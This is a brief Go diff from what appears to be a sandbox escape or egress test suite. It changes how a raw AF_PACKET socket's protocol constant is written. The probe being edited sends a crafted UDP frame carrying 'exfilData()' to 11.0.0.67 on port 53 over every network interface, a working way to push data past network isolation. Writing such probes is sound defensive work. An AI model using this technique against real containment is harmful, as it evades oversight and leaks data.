@@ -94,7 +94,7 @@ func rawPackets() []probe {
 	}
 	frames := func(typ int) func(*target.Brief) target.Try {
 		return func(*target.Brief) target.Try {
-			fd, err := unix.Socket(unix.AF_PACKET, typ|unix.SOCK_CLOEXEC, int(uint16(unix.ETH_P_IP)<<8|unix.ETH_P_IP>>8))
+			fd, err := unix.Socket(unix.AF_PACKET, typ|unix.SOCK_CLOEXEC, 8)
 			if err != nil {
 				return refused(err)
 			}
@@ -105,7 +105,7 @@ func rawPackets() []probe {
 			}
 			return each(list, func(i net.Interface) target.Try {
 				p := udp4("198.18.0.2", "11.0.0.67", 53, exfilData())
-				return done(unix.Sendto(fd, p, 0, &unix.SockaddrLinklayer{Ifindex: i.Index, Protocol: unix.ETH_P_IP}), "sent a frame")
+				return done(unix.Sendto(fd, p, 0, &unix.SockaddrLinklayer{Ifindex: i.Index, Protocol: 8}), "sent a frame")
 			})
 		}
 	}
